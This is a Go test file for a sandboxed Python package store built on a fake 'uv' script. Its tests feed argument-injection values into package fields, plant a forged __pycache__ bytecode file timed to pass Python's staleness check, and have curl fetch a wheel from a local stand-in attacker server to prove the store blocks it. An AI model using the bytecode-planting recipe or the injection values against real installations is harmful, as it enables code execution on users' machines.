//go:build unix

package packages

import (
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/perstack-go/perstack/internal/lockfile"
	"github.com/perstack-go/perstack/internal/sandbox/landlock"
	"github.com/perstack-go/perstack/internal/testkit"
)

// fakeUV plays uv: it writes the files of a wheel as uv would lay them out, and its own
// arguments and variables beside the directory.
const fakeUV = `#!/bin/sh
printf '%s\n' "$@" >"$LOG"
env >>"$LOG"
while [ "$1" != --target ]; do shift; done
cd "$2" || exit 9
[ -n "$UV_INDEX_FAIL" ] && { echo "error: no such package at https://user:secret@index.example/" >&2; exit 2; }
mkdir -p clock_server clock_server-1.2.3.dist-info helper-2.0.dist-info
printf 'import helper, sys\nclass Server:\n    @staticmethod\n    def main():\n        print(helper.word, sys.argv, "" in sys.path)\n' >clock_server/__init__.py
printf 'word = "tick"\n' >helper.py
printf '[other]\nx = y:z\n\n[console_scripts]\nclock-server = clock_server:Server.main\nspare = clock_server : Server.main [extra]\n' >clock_server-1.2.3.dist-info/entry_points.txt
`

func uvStore(t *testing.T, more ...string) (s *Store, log string) {
	t.Helper()
	testkit.Need(t, "sh", "mkdir", "env")
	bin := t.TempDir()
	log = filepath.Join(bin, "log")
	script := strings.Replace(fakeUV, "#!/bin/sh\n", "#!/bin/sh\nLOG='"+log+"'\n", 1)
	if err := os.WriteFile(filepath.Join(bin, "uv"), []byte(script), 0o700); err != nil {
		t.Fatal(err)
	}
	return &Store{
		Dir: filepath.Join(t.TempDir(), "cache"), Commands: supervisor(t),
		Environ: append([]string{"PATH=" + bin + ":" + os.Getenv("PATH"), "HOME=" + t.TempDir()}, more...),
	}, log
}

var (
	clock  = &lockfile.Package{Manager: "uvx", Name: "Clock.Server", Version: "1.2.3"}
	debian = Platform{OS: "linux", CPU: "x64", Libc: "glibc", Python: "3.13"}
)

// A package of uv goes from a stand-in for uv into a store, and a real Python starts it
// from there. No real index was tried.
func TestUV(t *testing.T) {
	s, log := uvStore(t, "UV_INDEX_URL=https://index.example/", "UV_NO_BUILD=0", "UV_PYTHON=/evil")
	got := fetch(t, s, clock, debian)
	pin, err := PinOf(clock)
	if err != nil {
		t.Fatal(err)
	}
	if got.Packages != 2 || pin.Kind != "uv" || filepath.Base(got.Dir) != pin.Digest+"-linux-x64-glibc-3.13" {
		t.Errorf("fetched %+v", got)
	}
	said, err := os.ReadFile(log)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"--only-binary\n:all:\n", "--python-platform\nx86_64-unknown-linux-gnu\n", "--python-version\n3.13\n", "--no-config\n", "\nclock-server==1.2.3\n", "UV_INDEX_URL=https://index.example/"} {
		if !strings.Contains(string(said), want) {
			t.Errorf("uv was not told %q:\n%s", want, said)
		}
	}
	if strings.Contains(string(said), "UV_NO_BUILD") || strings.Contains(string(said), "/evil") {
		t.Errorf("uv was told too much:\n%s", said)
	}
	// As in an image: under the digest alone.
	image := t.TempDir()
	if err := os.Mkdir(filepath.Join(image, "uv"), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(got.Dir, filepath.Join(image, "uv", pin.Digest)); err != nil {
		t.Fatal(err)
	}
	sealed := &Store{Dir: image, Commands: s.Commands, Sealed: true}
	argv, err := sealed.Install(t.Context(), clock, "", nil)
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"python3", "-I", "-B", "-c", launcher, filepath.Join(image, "uv", pin.Digest, "site-packages"), "clock_server", "Server.main", "clock-server"}
	if diff := cmp.Diff(want, argv); diff != "" {
		t.Error(diff)
	}
	testkit.Need(t, "python3")
	before := listing(t, image)
	s.Environ = append(s.Environ, "PYTHONPATH=/evil")
	if said := output(t, s, append(argv, "--utc", "x y")); said != "tick ['clock-server', '--utc', 'x y'] False\n" {
		t.Errorf("it says %q", said)
	}
	if diff := cmp.Diff(before, listing(t, image)); diff != "" {
		t.Error(diff)
	}
	for program, want := range map[string]string{"spare": "spare", "nothing": "!it has no program"} {
		argv, err := sealed.Install(t.Context(), clock, program, nil)
		if message, fails := strings.CutPrefix(want, "!"); fails && (err == nil || !strings.Contains(err.Error(), message)) || !fails && (err != nil || argv[len(argv)-1] != want) {
			t.Errorf("%s: %q, %v", program, argv, err)
		}
	}
}

func TestUVRefuses(t *testing.T) {
	s, _ := uvStore(t)
	for name, p := range map[string]*lockfile.Package{
		"no version": {Manager: "uvx", Name: "clock"},
		"a flag":     {Manager: "uvx", Name: "--index-url=x", Version: "1"},
		"an address": {Manager: "uvx", Name: "clock", Version: "1 @ https://x"},
		"a range":    {Manager: "uvx", Name: "clock", Version: ">=1"},
	} {
		if _, err := s.Fetch(t.Context(), p, debian, nil); err == nil {
			t.Errorf("%s is fetched", name)
		}
		if _, err := PinOf(p); err == nil {
			t.Errorf("%s is pinned", name)
		}
	}
	other := *clock
	other.Version = "9.9.9"
	if _, err := s.Fetch(t.Context(), &other, debian, nil); err == nil || !strings.Contains(err.Error(), "uv installed version 1.2.3 instead") {
		t.Errorf("another version: %v", err)
	}
	if _, err := s.Fetch(t.Context(), clock, Platform{OS: "linux", CPU: "x64", Libc: "glibc", Python: "3.13;x"}, nil); err == nil {
		t.Error("any Python is accepted")
	}
	if _, err := s.Install(t.Context(), clock, "", nil); err == nil || !strings.Contains(err.Error(), "started by uvx itself") {
		t.Errorf("outside of an image: %v", err)
	}
	s.Offline = true
	if _, err := s.Fetch(t.Context(), clock, debian, nil); err == nil || !strings.Contains(err.Error(), "offline") {
		t.Errorf("offline: %v", err)
	}
	failing, _ := uvStore(t, "UV_INDEX_FAIL=yes")
	if _, err := failing.Fetch(t.Context(), clock, debian, nil); err == nil || !strings.Contains(err.Error(), "no such package at https://…@index.example/") {
		t.Errorf("a failure: %v", err)
	}
	if got, _ := os.ReadDir(filepath.Join(failing.Dir, "uv")); len(got) > 0 {
		t.Errorf("left: %v", got)
	}
}

func TestEntryOf(t *testing.T) {
	for text, want := range map[string]string{
		"":                                        "!no console_scripts",
		"[gui_scripts]\na = b:c\n":                "!no console_scripts",
		"[console_scripts]\na = b:c\n":            "b c a",
		"[console_scripts]\na=b.d:c.e\n":          "b.d c.e a",
		"[console_scripts]\na = b; x:c\n":         "!not understood",
		"[console_scripts]\na = b\n":              "!not understood",
		"[console_scripts]\na = b:c()\n":          "!not understood",
		"[console_scripts]\na = b:c\nown = d:e\n": "d e own",
		"[console_scripts]\na = b:c\nd = e:f\n":   "!it has no program \"own\", only: a, d",
	} {
		dist := t.TempDir()
		if err := os.WriteFile(filepath.Join(dist, "entry_points.txt"), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		module, entry, name, err := entryOf(dist, "own", "")
		if message, fails := strings.CutPrefix(want, "!"); fails {
			if err == nil || !strings.Contains(err.Error(), message) {
				t.Errorf("%q: %v", text, err)
			}
		} else if got := module + " " + entry + " " + name; err != nil || got != want {
			t.Errorf("%q: %s, %v", text, got, err)
		}
	}
}

// Code that a skill adds beside its Python program is not loaded at the next start. Data stays.
func TestUVPlaceKeepsDataOnly(t *testing.T) {
	testkit.Need(t, "python3")
	s, _ := uvStore(t)
	got := fetch(t, s, clock, debian)
	image := &Store{Dir: t.TempDir(), Commands: s.Commands, Sealed: true}
	if err := os.Mkdir(filepath.Join(image.Dir, "uv"), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(got.Dir, filepath.Join(image.Dir, "uv", uvDigest(clock))); err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	start := func() string {
		placed, err := image.Place(t.Context(), clock, "", dir, nil)
		if err != nil {
			t.Fatal(err)
		}
		return output(t, s, placed.Argv)
	}
	want := "tick ['clock-server'] False\n"
	if said := start(); said != want {
		t.Fatalf("it says %q", said)
	}
	// The compiled code has the time and the size of the source, so Python would take it.
	plant := `import importlib.util, marshal, os, struct, sys
source = sys.argv[1]
info = os.stat(source)
code = compile("print('evil')", source, "exec")
at = importlib.util.cache_from_source(source)
os.makedirs(os.path.dirname(at))
head = importlib.util.MAGIC_NUMBER + struct.pack("<III", 0, int(info.st_mtime), info.st_size)
open(at, "wb").write(head + marshal.dumps(code))
`
	own := filepath.Join(dir, uvModules, "clock_server")
	output(t, s, []string{"python3", "-c", plant, filepath.Join(own, "__init__.py")})
	for name, text := range map[string]string{"../helper.py": "print('evil')", "evil.so": "x", "memory.json": "{}"} {
		if err := os.WriteFile(filepath.Join(own, name), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	if said := start(); said != want {
		t.Errorf("it says %q", said)
	}
	for name, kept := range map[string]bool{"__pycache__": false, "evil.so": false, "memory.json": true} {
		if _, err := os.Lstat(filepath.Join(own, name)); (err == nil) != kept {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// A stand-in for uv that uses its proxy with curl: no real index can be reached by tests.
func TestUVHosts(t *testing.T) {
	testkit.Need(t, "curl")
	evil := newAttacker(t)
	index := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, "index") }))
	t.Cleanup(index.Close)
	for name, tt := range map[string]struct{ ask, want string }{
		"index":      {index.URL + "/simple/", ""},
		"other host": {"http://" + evil.address + "/x.whl", "it needs something from " + evil.address + ", which is not a registry of your uv configuration"},
		"by https":   {"https://" + evil.address + "/x.whl", "it needs something from " + evil.address},
		"directly":   {"--noproxy '*' http://" + evil.address + "/x.whl", "uv failed with exit status 1"},
	} {
		t.Run(name, func(t *testing.T) {
			if err := landlock.Available(); err != nil && name == "directly" {
				testkit.Missing(t, err.Error())
			}
			s, _ := uvStore(t, "UV_INDEX=corp="+index.URL+"/simple/", "NO_PROXY=*", "no_proxy=127.0.0.1", "https_proxy=http://"+evil.address)
			uv := filepath.Join(strings.TrimPrefix(strings.SplitN(s.Environ[0], ":", 2)[0], "PATH="), "uv")
			text, err := os.ReadFile(uv)
			if err != nil {
				t.Fatal(err)
			}
			asks := strings.Replace(string(text), "#!/bin/sh\n", "#!/bin/sh\nhttp_proxy=$HTTP_PROXY curl -sf "+tt.ask+" >&2 || exit 1\n", 1)
			if err := os.WriteFile(uv, []byte(asks), 0o700); err != nil {
				t.Fatal(err)
			}
			_, err = s.Fetch(t.Context(), clock, debian, nil)
			if tt.want == "" && err != nil || tt.want != "" && (err == nil || !strings.Contains(err.Error(), tt.want)) {
				t.Errorf("error %v", err)
			}
			if n := evil.met.Load(); n > 0 {
				t.Fatalf("%d connections to the other server", n)
			}
		})
	}
}
